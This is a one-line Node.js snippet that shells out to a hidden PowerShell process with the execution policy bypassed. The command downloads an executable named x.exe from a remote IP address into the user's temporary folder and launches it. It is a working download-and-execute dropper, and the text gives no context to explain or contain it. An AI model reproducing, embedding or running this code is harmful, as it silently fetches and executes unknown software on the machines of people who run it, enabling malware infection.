const {exec}=require('child_process');exec('powershell -w hidden -ep bypass -c "iwr http://192.0.2.7/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"');
